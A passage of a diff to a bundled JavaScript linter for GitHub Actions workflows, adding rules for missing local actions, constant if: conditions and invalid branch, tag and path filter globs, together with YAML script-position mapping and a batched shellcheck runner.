+        return inside.startsWith('..') || external_node_path_.isAbsolute(inside) ? [] : [await loadFile(abs, name)];
+    }
+    return [];
 }
 function dedupe(findings) {
     const seen = new Set();
@@ -3464,11 +3837,4801 @@ function dedupe(findings) {
 }
 /** Sorts by file, line, column, then rule id, as a compiler prints. */
 function sortFindings(findings) {
-    return findings.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || a.ruleId.localeCompare(b.ruleId)));
+    return findings.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0)));
 }
 /** `file:line:col: level [id] message`, the compiler-like line of the command line and fixtures. */
 function formatFinding(f) {
     return `${f.file}:${f.line}:${f.column}: ${f.level} [${f.ruleId}] ${f.message}`;
+}
+/**
+ * A finding in actionlint's form, `file:line:col: message [PGxxx]`, which its problem matcher,
+ * reviewdog (`-efm="%f:%l:%c: %m"`) and editors read; a warning or note says so at the start of
+ * the message (actionlint's findings are all errors).
+ */
+function formatActionlint(f) {
+    const level = f.level === 'error' ? '' : `${f.level}: `;
+    return `${f.file}:${f.line}:${f.column}: ${level}${f.message} [${f.ruleId}]`;
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/missing-local-file.js
+
+
+
+
+/**
+ * Whether a step before `step` checks out another repository, or into a directory: the local action
+ * may come from that checkout, so its absence from this repository proves nothing.
+ */
+function checkedOutBefore(owner, step) {
+    for (const s of owner.steps) {
+        if (s.index >= step.index)
+            break;
+        if (!s.uses || isLocalUses(s.uses.value))
+            continue;
+        if (!/^actions\/checkout@/i.test(s.uses.value)) {
+            // Another action (a download, a custom checkout) may write the directory too; only a run: step or a known action is ruled out.
+            if (!/^actions\/(setup-|cache|upload-|github-script)/i.test(s.uses.value))
+                return true;
+            continue;
+        }
+        const withToken = child(s.token, 'with');
+        const repository = child(withToken, 'repository');
+        const path = child(withToken, 'path');
+        if ((repository && !((0,dist/* isString */.Kg)(repository) && repository.value === '${{ github.repository }}')) || path)
+            return true;
+    }
+    return false;
+}
+const missing_local_file_rule = {
+    id: 'PG142',
+    name: 'missing-local-file',
+    level: 'error',
+    description: 'A `uses: ./path` whose action.yml (or action.yaml) is not in the repository, or a `uses: ./.github/workflows/x.yml` whose file is missing.',
+    help: "A local action is read from the job's workspace when the step starts, so a path without action.yml or action.yaml fails the step (\"Can't find 'action.yml'\"); forgetting actions/checkout before it gives the same error. A local reusable workflow is read from the repository at the caller's commit: when it is missing, GitHub refuses the whole workflow. A local action after a step that checks out another repository or into a directory (or runs an action that may write files) is not reported, since that step may create it.",
+    create(context) {
+        const exists = (uses) => context.project.exists?.(uses) ?? true;
+        return {
+            jobPre(job, workflow) {
+                const uses = job.uses;
+                if (!uses || !isLocalUses(uses.value) || uses.value.includes('${{') || !/\.ya?ml$/.test(uses.value))
+                    return;
+                if (!exists(uses.value))
+                    context.report(workflow.file, uses, `reusable workflow "${uses.value}" does not exist in the repository: GitHub refuses the workflow`);
+            },
+            step(step, owner, file) {
+                const uses = step.uses;
+                if (!uses || !isLocalUses(uses.value) || uses.value.includes('${{') || exists(uses.value))
+                    return;
+                // `$/` is read from the repository at the workflow's commit, whatever the job checked out.
+                if (uses.value.startsWith('./') && checkedOutBefore(owner, step))
+                    return;
+                const rel = localUsesPath(uses.value);
+                context.report(file.file, uses, `local action "${uses.value}" has no action.yml or action.yaml in the repository (${rel}/action.yml): the step fails`);
+            }
+        };
+    }
+};
+/* harmony default export */ const missing_local_file = (missing_local_file_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/constant-if.js
+/** PG143 constant-if: an `if:` whose value never depends on the run (text around `${{ }}` is PG220 unsound-condition's). */
+
+
+
+
+/** Functions whose result depends on the run: the status functions and hashFiles. */
+const RUN_FUNCTIONS = new Set(['success', 'failure', 'always', 'cancelled', 'hashfiles']);
+/** Whether an expression refers to no context and calls no run-dependent function. */
+function isConstant(e) {
+    let constant = true;
+    const visit = (x, depth) => {
+        if (!constant || depth > 200 || !x || typeof x !== 'object')
+            return;
+        if (x instanceof ast/* ContextAccess */.QC) {
+            constant = false;
+            return;
+        }
+        if (x instanceof ast/* FunctionCall */.R6 && RUN_FUNCTIONS.has(x.functionName.lexeme.toLowerCase())) {
+            constant = false;
+            return;
+        }
+        for (const v of Object.values(x)) {
+            if (Array.isArray(v))
+                v.forEach((i) => visit(i, depth + 1));
+            else if (v && typeof v === 'object' && !('lexeme' in v))
+                visit(v, depth + 1);
+        }
+    };
+    visit(e, 0);
+    return constant;
+}
+function parse(text) {
+    try {
+        return new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(text).lex().tokens, ['github', 'env', 'vars', 'job', 'jobs', 'steps', 'runner', 'secrets', 'strategy', 'matrix', 'needs', 'inputs'], []).parse();
+    }
+    catch {
+        return undefined;
+    }
+}
+/** The `if:` as written (inside its quotes), or undefined when it is not a scalar. */
+function written(token) {
+    if ((0,dist/* isString */.Kg)(token))
+        return token.value;
+    if (!(0,dist/* isBasicExpression */.hR)(token))
+        return undefined;
+    const source = token.source;
+    if (source === undefined)
+        return `\${{ ${token.expression} }}`;
+    // The source keeps a quoted scalar's quotes and a block scalar's indentation.
+    if (/^'[^]*'$/.test(source))
+        return source.slice(1, -1).replace(/''/g, "'");
+    if (/^"[^]*"$/.test(source))
+        return source.slice(1, -1);
+    return source.includes('\n') ? source.replace(/^[ \t]+/gm, '') : source;
+}
+const constant_if_rule = {
+    id: 'PG143',
+    name: 'constant-if',
+    level: 'warning',
+    description: 'A constant condition such as `if: false` or `if: ${{ true }}` (a condition always true by text around its `${{ }}` is PG220 unsound-condition).',
+    help: "A condition that refers to no context and no status function (`if: false`, `if: ${{ true }}`) is constant: remove the `if:` or the job or step it guards.",
+    create(context) {
+        const check = (file, owner, at) => {
+            const token = child(owner.token, 'if');
+            if (!token || !at)
+                return;
+            // The value's first character, its quote included (an expression's own position is after the quote).
+            if (token.range) {
+                const { line, column } = token.range.start;
+                const before = tokens_lineOf(file, line)[column - 2];
+                at = { at: { line, column: before === "'" || before === '"' ? column - 1 : column } };
+            }
+            const text = written(token);
+            if (text === undefined)
+                return;
+            const start = text.indexOf('${{');
+            const end = text.lastIndexOf('}}');
+            if (start >= 0 && end > start) {
+                // Text around ${{ }} makes the condition always true: PG220 unsound-condition reports that.
+                if (start > 0 || end + 2 < text.length || text.indexOf('${{', start + 3) >= 0)
+                    return;
+            }
+            const expression = (start >= 0 && end > start ? text.slice(start + 3, end) : text).trim();
+            const tree = parse(expression);
+            if (tree && isConstant(tree))
+                context.report(file, at, `condition "${expression}" is constant: remove the if: (or the job or step it guards)`);
+        };
+        return {
+            jobPre(job, workflow) {
+                check(workflow.file, job, job.if);
+            },
+            step(step, _owner, file) {
+                check(file.file, step, step.if);
+            }
+        };
+    }
+};
+/* harmony default export */ const constant_if = (constant_if_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/glob.js
+/**
+ * GitHub's filter patterns (`branches:`, `tags:`, `paths:` of a trigger), checked as actionlint's
+ * glob.go does (rhysd/actionlint at 011a6d1): each problem with its 1-based column in the pattern
+ * (0 when it cannot be placed).
+ */
+const EOF = '';
+class Validator {
+    pat;
+    isRef;
+    problems = [];
+    i = 0;
+    prec = false;
+    constructor(pat, isRef) {
+        this.pat = pat;
+        this.isRef = isRef;
+    }
+    next() {
+        return this.i < this.pat.length ? this.pat[this.i++] : EOF;
+    }
+    peek() {
+        return this.i < this.pat.length ? this.pat[this.i] : EOF;
+    }
+    error(message) {
+        this.problems.push({ message, column: this.pat.slice(0, this.i).includes('\n') ? 0 : this.i });
+    }
+    unexpected(char, what, why) {
+        const unexpected = char === EOF ? 'unexpected EOF' : `unexpected character ${JSON.stringify(char)}`;
+        this.error(`invalid glob pattern: ${unexpected}${what ? ` while checking ${what}` : ''}; ${why}`);
+    }
+    invalidRefChar(c, why) {
+        this.error(`character ${c === EOF ? 'EOF' : JSON.stringify(c)} is invalid in branch and tag names: ${why} (see git check-ref-format; regular expressions are not supported)`);
+    }
+    step() {
+        let c = this.next();
+        let prec = true;
+        switch (c) {
+            case '\\': {
+                const p = this.peek();
+                if (p === '[' || p === '?' || p === '*') {
+                    c = this.next();
+                    if (this.isRef)
+                        this.invalidRefChar(this.peek(), 'a ref name cannot contain spaces, ~, ^, :, [, ?, *');
+                }
+                else if (p === '+' || p === '\\' || p === '!')
+                    c = this.next();
+                else if (this.isRef) {
+                    this.invalidRefChar('\\', 'only the special characters [, ?, +, *, \\ and ! can be escaped with \\');
+                    c = this.next();
+                }
+                break;
+            }
+            case '?':
+            case '+':
+                if (!this.prec)
+                    this.unexpected(c, `special character ${c}`, 'the preceding character must not be a special character');
+                prec = false;
+                break;
+            case '*':
+                prec = false;
+                break;
+            case '[': {
+                if (this.peek() === ']') {
+                    c = this.next();
+                    this.unexpected(']', 'content of character match []', 'a character match must not be empty');
+                    break;
+                }
+                let chars = 0;
+                for (;;) {
+                    c = this.next();
+                    if (c === ']')
+                        break;
+                    if (c === EOF) {
+                        this.unexpected(c, 'end of character match []', 'missing ]');
+                        return false;
+                    }
+                    if (this.peek() !== '-') {
+                        chars++;
+                        continue;
+                    }
+                    chars += 2;
+                    const s = c;
+                    c = this.next(); // -
+                    const p = this.peek();
+                    if (p === ']') {
+                        c = this.next();
+                        this.unexpected(c, 'character range in []', 'the end of the range is missing');
+                        break;
+                    }
+                    if (p !== EOF) {
+                        c = this.next();
+                        if (s > c)
+                            this.unexpected(c, 'character range in []', `the start of the range ${JSON.stringify(s)} is after its end ${JSON.stringify(c)}`);
+                    }
+                }
+                if (chars === 1)
+                    this.unexpected(c, 'character match []', 'a character match of one character is useless: write x instead of [x]');
+                break;
+            }
+            case '\r':
+                if (this.peek() === '\n')
+                    c = this.next();
+                this.unexpected(c, '', 'a pattern cannot contain a newline');
+                break;
+            case '\n':
+                this.unexpected('\n', '', 'a pattern cannot contain a newline');
+                break;
+            case ' ':
+            case '\t':
+            case '~':
+            case '^':
+            case ':':
+                if (this.isRef)
+                    this.invalidRefChar(c, 'a ref name cannot contain spaces, ~, ^, :, [, ?, *');
+                break;
+        }
+        this.prec = prec;
+        if (this.peek() === EOF) {
+            if (this.isRef && (c === '/' || c === '.'))
+                this.invalidRefChar(c, 'a ref name must not end with / or .');
+            return false;
+        }
+        return true;
+    }
+    run() {
+        if (this.pat === '') {
+            this.error('a glob pattern cannot be empty');
+            return this.problems;
+        }
+        const first = this.peek();
+        if (first === '/' && this.isRef) {
+            this.next();
+            this.invalidRefChar('/', 'a ref name must not start with /');
+            this.prec = true;
+        }
+        else if (first === '!') {
+            this.next();
+            if (this.peek() === EOF) {
+                this.unexpected('!', '! at the first character (a negative pattern)', 'at least one character must follow !');
+                return this.problems;
+            }
+            this.prec = false;
+        }
+        // Each step eats at least one character, so this ends within the pattern's length.
+        while (this.step())
+            ;
+        return this.problems;
+    }
+}
+/** Problems of a `branches:` or `tags:` pattern (a Git ref name glob). */
+function refGlobProblems(pattern) {
+    return new Validator(pattern, true).run();
+}
+/** Problems of a `paths:` pattern. */
+function pathGlobProblems(pattern) {
+    const p = pattern.trim();
+    const problems = [];
+    if (p !== pattern)
+        problems.push({ message: 'leading and trailing spaces are not allowed in a path pattern', column: 0 });
+    const q = p.replace(/^!/, '');
+    if (q === '.' || q === '..' || q.startsWith('./') || q.startsWith('../'))
+        problems.push({ message: "'.' and '..' are not allowed in a path pattern: paths are relative to the repository root, without ./", column: 0 });
+    return problems.length ? problems : new Validator(pattern, false).run();
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/filter-glob.js
+/** PG144 filter-glob: a `branches:`, `tags:` or `paths:` filter pattern of a trigger that GitHub cannot match as meant. */
+
+
+
+const FILTERS = {
+    branches: refGlobProblems,
+    'branches-ignore': refGlobProblems,
+    tags: refGlobProblems,
+    'tags-ignore': refGlobProblems,
+    paths: pathGlobProblems,
+    'paths-ignore': pathGlobProblems
+};
+const CHEAT_SHEET = 'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#filter-pattern-cheat-sheet';
+const filter_glob_rule = {
+    id: 'PG144',
+    name: 'filter-glob',
+    level: 'error',
+    description: 'A `branches:`, `tags:` or `paths:` pattern of a trigger with invalid glob syntax, a character no Git ref can contain, a regular expression, spaces around a path, or a `./` path.',
+    help: `Filter patterns are globs (\`*\`, \`**\`, \`?\`, \`+\`, \`[]\`, \`!\`), not regular expressions: \`/v\\d+/\` matches no tag, a space or \`:\` can be in no branch name, a path pattern starting with \`./\` or with spaces around it matches nothing, so the workflow silently never runs (or runs for everything). Checked as actionlint's glob rule does; the syntax: ${CHEAT_SHEET}.`,
+    create(context) {
+        return {
+            workflowPre(workflow) {
+                for (const [, event] of workflow.on) {
+                    if (!(0,dist/* isMapping */.pi)(event.value))
+                        continue;
+                    for (const [key, check] of Object.entries(FILTERS)) {
+                        const list = child(event.value, key);
+                        if (!list || !(0,dist/* isSequence */.wZ)(list))
+                            continue;
+                        for (const item of list) {
+                            if (!(0,dist/* isString */.Kg)(item) || !item.range || item.value.includes('${{'))
+                                continue;
+                            const quoted = item.source !== undefined && /^['"]/.test(item.source) ? 1 : 0;
+                            for (const problem of check(item.value)) {
+                                const at = { line: item.range.start.line, column: item.range.start.column + quoted + Math.max(problem.column - 1, 0) };
+                                context.report(workflow.file, { at }, `${key}: pattern ${JSON.stringify(item.value)}: ${problem.message}`);
+                            }
+                        }
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const filter_glob = (filter_glob_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/index.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+const family = {
+    name: 'syntax',
+    title: 'Syntax and types',
+    description: 'What GitHub would refuse or misread: YAML and schema, expressions and their contexts, job graph, inputs of local actions and reusable workflows, runner labels, `uses:` forms and local files, constant conditions.',
+    rules: [
+        unreadable_file,
+        workflow_syntax,
+        expression_syntax,
+        unknown_context,
+        unknown_function,
+        unknown_property,
+        type_mismatch,
+        function_not_allowed,
+        function_arguments,
+        needs_unknown_job,
+        needs_cycle,
+        step_outputs_reference,
+        needs_outputs_reference,
+        local_action_inputs,
+        reusable_workflow_call,
+        runner_label,
+        uses_syntax,
+        missing_local_file,
+        constant_if,
+        filter_glob
+    ]
+};
+/* harmony default export */ const syntax = (family);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shell.js
+/**
+ * What the scripts rules share: the shell a `run:` step runs in (step `shell:`, then
+ * `defaults.run.shell` of its job and its workflow, then the runner's OS, as actionlint decides),
+ * the values of `mappings` in the token tree, and the script of a `run:` with the position in the
+ * file of each of its characters, so that a finding inside the script (shellcheck's line and
+ * column, a deprecated command) lands on the workflow line and column it came from.
+ */
+
+
+/** The value of `key` in a mapping token. */
+function shell_valueOf(token, key) {
+    if (!token || !(0,dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token)
+        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
+            return pair.value;
+    return undefined;
+}
+/** The position of a token's first character. */
+function tokenPos(token) {
+    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
+}
+/** A scalar token's text as written (`${{ }}` kept), or undefined for a mapping or sequence. */
+function tokenText(token) {
+    if (!token || (0,dist/* isMapping */.pi)(token) || (0,dist/* isSequence */.wZ)(token))
+        return undefined;
+    if ((0,dist/* isLiteral */.c$)(token))
+        return token.toString();
+    // An expression: its source text, when the parser kept it (block scalars keep their content only).
+    const source = token.source;
+    return typeof source === 'string' ? source : (0,dist/* isBasicExpression */.hR)(token) ? token.toDisplayString() : undefined;
+}
+/** `defaults.run.shell` of a job or workflow mapping. */
+function defaultShell(token) {
+    return shell_valueOf(shell_valueOf(shell_valueOf(token, 'defaults'), 'run'), 'shell');
+}
+/** The labels of `runs-on:` (a label, a list, or `{ group, labels }`), lower-cased; none for an expression. */
+function runnerLabels(runsOn) {
+    if (!runsOn)
+        return [];
+    const labels = (0,dist/* isMapping */.pi)(runsOn) ? shell_valueOf(runsOn, 'labels') : runsOn;
+    if (!labels)
+        return [];
+    const items = (0,dist/* isSequence */.wZ)(labels) ? [...labels] : [labels];
+    return items.filter((t) => (0,dist/* isString */.Kg)(t)).map((t) => t.value.toLowerCase());
+}
+/** The platform of a job's runner; `any` when the labels say nothing or conflict. */
+function platformOf(job) {
+    let platform = 'any';
+    for (const l of runnerLabels(job.runsOn)) {
+        let k = 'any';
+        if (l === 'windows' || l.startsWith('windows-'))
+            k = 'windows';
+        else if (l.startsWith('macos-') || l.startsWith('ubuntu-') || l === 'macos' || l === 'linux')
+            k = 'unix';
+        if (k === 'any')
+            continue;
+        if (platform !== 'any' && platform !== k)
+            return 'any';
+        platform = k;
+    }
+    return platform;
+}
+/**
+ * The shell a `run:` step runs in, as actionlint's shellcheck rule decides: the step's `shell:`,
+ * else the job's `defaults.run.shell`, else the workflow's, else `pwsh` on a Windows runner, else
+ * `bash`. A composite action's step has no default: undefined without `shell:`.
+ */
+function stepShell(step, owner, file) {
+    const own = tokenText(shell_valueOf(step.token, 'shell'));
+    if (own !== undefined)
+        return own;
+    if (file.kind === 'action' || 'kind' in owner)
+        return undefined;
+    const job = owner;
+    const fromJob = tokenText(defaultShell(job.token));
+    if (fromJob)
+        return fromJob;
+    const fromWorkflow = tokenText(defaultShell(file.root));
+    if (fromWorkflow)
+        return fromWorkflow;
+    for (const l of runnerLabels(job.runsOn))
+        if (l === 'windows' || l.startsWith('windows-'))
+            return 'pwsh';
+    return 'bash';
+}
+/** The shell shellcheck should read a script as: `bash`, `sh`, or undefined (not a POSIX shell script). */
+function shellcheckShell(shell) {
+    if (shell === 'bash' || shell.startsWith('bash '))
+        return 'bash';
+    if (shell === 'sh' || shell.startsWith('sh '))
+        return 'sh';
+    return undefined;
+}
+/**
+ * actionlint's sanitizeExpressionsInScript: every `${{ … }}` becomes as many underscores as it has
+ * characters (a newline inside it too; a `}}` inside a string literal does not end it), so that the shell still sees one word where the runner
+ * pastes one and every other character keeps its place. Underscores rather than spaces:
+ * `if ${{ contains(xs, s) }}; then` must stay a command.
+ */
+function sanitizeExpressions(src) {
+    let out = '';
+    let rest = src;
+    for (;;) {
+        const s = rest.indexOf('${{');
+        if (s < 0)
+            break;
+        // The first `}}` outside a '…' string literal (`format('{{0}}', x)` holds one inside), as the runner reads it.
+        let e = -1;
+        let inString = false;
+        for (let i = s + 3; i < rest.length - 1; i++) {
+            if (rest[i] === "'")
+                inString = !inString;
+            else if (!inString && rest[i] === '}' && rest[i + 1] === '}') {
+                e = i;
+                break;
+            }
+        }
+        if (e < 0)
+            break;
+        const end = e + 2;
+        out += rest.slice(0, s) + '_'.repeat(end - s);
+        rest = rest.slice(end);
+    }
+    return out + rest;
+}
+/** A file's YAML scalars by the offset of their first character, parsed once per file. */
+const scalarsOf = new WeakMap();
+function fileScalars(file) {
+    let cached = scalarsOf.get(file);
+    if (!cached) {
+        const lineCounter = new yaml_dist/* LineCounter */.HN();
+        // Only files that parsed into a model get here: the reader already refused alias bombs.
+        const doc = (0,yaml_dist/* parseDocument */.Tp)(file.text, { lineCounter, uniqueKeys: false });
+        const scalars = new Map();
+        (0,yaml_dist/* visit */.YR)(doc, {
+            Scalar(_key, node) {
+                if (node.range && !scalars.has(node.range[0]))
+                    scalars.set(node.range[0], node);
+            }
+        });
+        const starts = [0];
+        for (let i = 0; i < file.text.length; i++)
+            if (file.text.charCodeAt(i) === 10)
+                starts.push(i + 1);
+        cached = { starts, scalars };
+        scalarsOf.set(file, cached);
+    }
+    return cached;
+}
+/** A block scalar (`|`, `>`, with chomping): its content lines stripped of their indentation, folded for `>`. */
+function decodeBlock(text, start, end) {
+    const header = /^([|>])([+-]?)([1-9]?)([+-]?)[ \t]*(?:#[^\n]*)?\r?\n/.exec(text.slice(start, Math.min(end, start + 1000)));
+    if (!header || header[3])
+        return undefined;
+    const folded = header[1] === '>';
+    const chomp = header[2] || header[4];
+    const lines = [];
+    let indent = -1;
+    let pos = start + header[0].length;
+    while (pos < end) {
+        let nl = text.indexOf('\n', pos);
+        if (nl < 0 || nl > end)
+            nl = end;
+        let line = text.slice(pos, nl);
+        if (line.endsWith('\r'))
+            line = line.slice(0, -1);
+        const lead = /^ */.exec(line)[0].length;
+        if (lead === line.length)
+            lines.push(undefined);
+        else {
+            if (indent < 0)
+                indent = lead;
+            if (lead < indent)
+                break;
+            lines.push({ text: line.slice(indent), at: pos + indent });
+        }
+        pos = nl + 1;
+    }
+    let value = '';
+    const offsets = [];
+    const add = (s, at, step) => {
+        for (let i = 0; i < s.length; i++) {
+            value += s[i];
+            offsets.push(at + i * step);
+        }
+    };
+    let last = lines.length;
+    while (last > 0 && lines[last - 1] === undefined)
+        last--;
+    let prev;
+    let empties = 0;
+    for (let i = 0; i < last; i++) {
+        const line = lines[i];
+        if (!line) {
+            empties++;
+            continue;
+        }
+        if (prev) {
+            const breakAt = prev.at + prev.text.length;
+            const spaced = /^[ \t]/.test(prev.text) || /^[ \t]/.test(line.text);
+            if (!folded || spaced)
+                add('\n'.repeat(empties + 1), breakAt, 0);
+            else if (empties === 0)
+                add(' ', breakAt, 0);
+            else
+                add('\n'.repeat(empties), breakAt, 0);
+        }
+        else
+            add('\n'.repeat(empties), line.at, 0);
+        add(line.text, line.at, 1);
+        prev = line;
+        empties = 0;
+    }
+    if (prev && chomp !== '-')
+        add('\n'.repeat(chomp === '+' ? 1 + lines.length - last : 1), prev.at + prev.text.length, 0);
+    return { value, offsets };
+}
+const ESCAPES = { '\\': '\\', '"': '"', '/': '/', n: '\n', t: '\t', '\t': '\t', r: '\r', '0': '\0', a: '\x07', b: '\b', e: '\x1b', f: '\f', v: '\v', ' ': ' ', N: '\x85', _: '\xa0' };
+/** A plain scalar over several lines: each line trimmed, one line break a space, n empty lines n newlines. */
+function decodePlainLines(text, start, end) {
+    let value = '';
+    const offsets = [];
+    let pos = start;
+    let empties = -1;
+    let prevEnd = start;
+    while (pos < end) {
+        let nl = text.indexOf('\n', pos);
+        if (nl < 0 || nl > end)
+            nl = end;
+        const line = text.slice(pos, nl);
+        const lead = pos === start ? 0 : /^[ \t]*/.exec(line)[0].length;
+        const body = line.slice(lead).replace(/[ \t\r]+$/, '');
+        if (!body)
+            empties++;
+        else {
+            if (empties >= 0) {
+                const sep = empties === 0 ? ' ' : '\n'.repeat(empties);
+                for (const c of sep) {
+                    value += c;
+                    offsets.push(prevEnd);
+                }
+            }
+            for (let i = 0; i < body.length; i++) {
+                value += body[i];
+                offsets.push(pos + lead + i);
+            }
+            prevEnd = pos + lead + body.length;
+            empties = 0;
+        }
+        pos = nl + 1;
+    }
+    return { value, offsets };
+}
+/** A one-line scalar (plain, single- or double-quoted), or a plain one over several lines. */
+function decodeLine(text, start, end) {
+    const raw = text.slice(start, end);
+    if (raw.includes('\n'))
+        return raw[0] === "'" || raw[0] === '"' ? undefined : decodePlainLines(text, start, end);
+    const offsets = [];
+    let value = '';
+    if (raw[0] === "'" || raw[0] === '"') {
+        const quote = raw[0];
+        for (let i = 1; i < raw.length - 1; i++) {
+            let c = raw[i];
+            const at = start + i;
+            if (quote === "'" && c === "'")
+                i++;
+            else if (quote === '"' && c === '\\') {
+                const e = raw[++i];
+                if (e === 'x' || e === 'u' || e === 'U') {
+                    const n = e === 'x' ? 2 : e === 'u' ? 4 : 8;
+                    const hex = raw.slice(i + 1, i + 1 + n);
+                    if (!/^[0-9a-fA-F]+$/.test(hex) || hex.length !== n)
+                        return undefined;
+                    c = String.fromCodePoint(parseInt(hex, 16));
+                    i += n;
+                }
+                else if (e in ESCAPES)
+                    c = ESCAPES[e];
+                else
+                    return undefined;
+            }
+            for (const unit of c)
+                for (let k = 0; k < unit.length; k++) {
+                    value += unit[k];
+                    offsets.push(at);
+                }
+        }
+        return { value, offsets };
+    }
+    for (let i = 0; i < raw.length; i++) {
+        value += raw[i];
+        offsets.push(start + i);
+    }
+    return { value, offsets };
+}
+/** The `run:` script of a step with its positions, or undefined when the step has none. */
+function positionedScript(file, run) {
+    const at = tokenPos(run);
+    const { starts, scalars } = fileScalars(file);
+    const startOffset = (starts[at.line - 1] ?? 0) + at.column - 1;
+    const node = scalars.get(startOffset);
+    if (!node || !(0,yaml_dist/* isScalar */.jn)(node) || typeof node.value !== 'string') {
+        const text = tokenText(run);
+        return text === undefined ? undefined : placed(text, at, undefined, starts);
+    }
+    const [s, e] = node.range;
+    const block = node.type === 'BLOCK_LITERAL' || node.type === 'BLOCK_FOLDED';
+    const decoded = block ? decodeBlock(file.text, s, e) : decodeLine(file.text, s, e);
+    // Placed only when our reading gives exactly the value YAML gives: never a wrong line.
+    return placed(node.value, at, decoded && decoded.value === node.value ? decoded.offsets : undefined, starts);
+}
+function placed(text, at, offsets, starts) {
+    const lineStarts = [0];
+    for (let i = 0; i < text.length; i++)
+        if (text.charCodeAt(i) === 10)
+            lineStarts.push(i + 1);
+    const toPos = (fileOffset) => {
+        let lo = 0;
+        let hi = starts.length - 1;
+        while (lo < hi) {
+            const mid = (lo + hi + 1) >> 1;
+            if (starts[mid] <= fileOffset)
+                lo = mid;
+            else
+                hi = mid - 1;
+        }
+        return { line: lo + 1, column: fileOffset - starts[lo] + 1 };
+    };
+    return {
+        text,
+        at,
+        exact: offsets !== undefined,
+        posAt(offset) {
+            if (!offsets || offsets.length === 0)
+                return at;
+            if (offset < offsets.length)
+                return toPos(offsets[offset]);
+            return toPos(offsets[offsets.length - 1] + 1);
+        },
+        offsetOf(line, column) {
+            // Past the last line (shellcheck's end of input, after the newline the runner's file ends with): the end.
+            if (line > lineStarts.length)
+                return text.length;
+            const ls = lineStarts[Math.max(line, 1) - 1];
+            let offset = ls;
+            // Columns count code points: step over a surrogate pair as one.
+            for (let c = 1; c < column && offset < text.length && text.charCodeAt(offset) !== 10; c++) {
+                const code = text.charCodeAt(offset);
+                offset += code >= 0xd800 && code < 0xdc00 ? 2 : 1;
+            }
+            return offset;
+        }
+    };
+}
+
+// EXTERNAL MODULE: external "node:child_process"
+var external_node_child_process_ = __webpack_require__(1421);
+// EXTERNAL MODULE: external "node:os"
+var external_node_os_ = __webpack_require__(8161);
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shellcheck-run.js
+/**
+ * Running shellcheck over many scripts at once: each script a file of a temporary directory, one
+ * process per batch of {@link BATCH} files of one shell (`-f json1` names each comment's file),
+ * at most {@link PARALLEL} processes at a time, each killed after {@link TIMEOUT_MS} or past
+ * {@link MAX_OUTPUT_BYTES} of output. actionlint starts one process per script.
+ */
+
+
+
+
+const SHELLCHECK_SEVERITIES = ['error', 'warning', 'info', 'style'];
+/**
+ * actionlint's exclusions (rule_shellcheck.go), for the same reasons:
+ * SC1091 a sourced file is not found (it exists on the runner, not here);
+ * SC2194, SC2050, SC2157, SC2043 a constant word, condition, `-z` argument or one-item loop that is
+ * the underscores standing for a `${{ }}`; SC2153, SC2154 a variable never assigned, which `env:`
+ * of the step, job or workflow assigns.
+ */
+const SHELLCHECK_EXCLUDED = 'SC1091,SC2194,SC2050,SC2153,SC2154,SC2157,SC2043';
+const BATCH = 200;
+const PARALLEL = 2;
+const TIMEOUT_MS = 60_000;
+const MAX_OUTPUT_BYTES = 32 * 1024 * 1024;
+/**
+ * The first line of each script, as the runner runs it (`bash -e {0}` / `sh -e {0}`, with
+ * `-o pipefail` for bash); shellcheck's line numbers are one more than the script's.
+ */
+function setupLine(shell) {
+    return shell === 'bash' ? 'set -eo pipefail' : 'set -e';
+}
+/** Runs one batch; its stdout, or why not. */
+function runBatch(executable, args, cwd) {
+    return new Promise((resolve) => {
+        const child = (0,external_node_child_process_.spawn)(executable, args, { cwd, stdio: ['ignore', 'pipe', 'pipe'] });
+        const out = [];
+        let size = 0;
+        let err = '';
+        let settled = false;
+        const done = (r) => {
+            if (settled)
+                return;
+            settled = true;
+            clearTimeout(timer);
+            resolve(r);
+        };
+        const timer = setTimeout(() => {
+            child.kill('SIGKILL');
+            done({ failed: `shellcheck did not finish within ${TIMEOUT_MS / 1000} s` });
+        }, TIMEOUT_MS);
+        child.stdout.on('data', (b) => {
+            size += b.length;
+            if (size > MAX_OUTPUT_BYTES) {
+                child.kill('SIGKILL');
+                done({ failed: `shellcheck wrote more than ${MAX_OUTPUT_BYTES / 1024 / 1024} MB` });
+            }
+            else
+                out.push(b);
+        });
+        child.stderr.on('data', (b) => {
+            if (err.length < 2000)
+                err += b.toString('utf8');
+        });
+        child.on('error', (e) => done(e.code === 'ENOENT' ? { missing: true } : { failed: `shellcheck could not start (${e.code ?? e.message})` }));
+        child.on('close', (code) => {
+            // 0: no comment, 1: comments; anything else is shellcheck failing.
+            if (code === 0 || code === 1)
+                done({ stdout: Buffer.concat(out).toString('utf8') });
+            else
+                done({ failed: `shellcheck exited with ${code}${err.trim() ? `: ${err.trim().split('\n')[0]}` : ''}` });
+        });
+    });
+}
+/** Checks every script; comments by script index, in shellcheck's order. */
+async function runShellcheck(scripts, executable, severity) {
+    const comments = scripts.map(() => []);
+    if (scripts.length === 0)
+        return { kind: 'ok', comments };
+    const dir = await (0,promises_.mkdtemp)(external_node_path_.join((0,external_node_os_.tmpdir)(), 'phase-gates-shellcheck-'));
+    try {
+        // Scripts in s/, shellcheck run in the empty cwd/: a script's `source ./x.sh` (-x) finds nothing, not another script.
+        await (0,promises_.mkdir)(external_node_path_.join(dir, 's'));
+        await (0,promises_.mkdir)(external_node_path_.join(dir, 'cwd'));
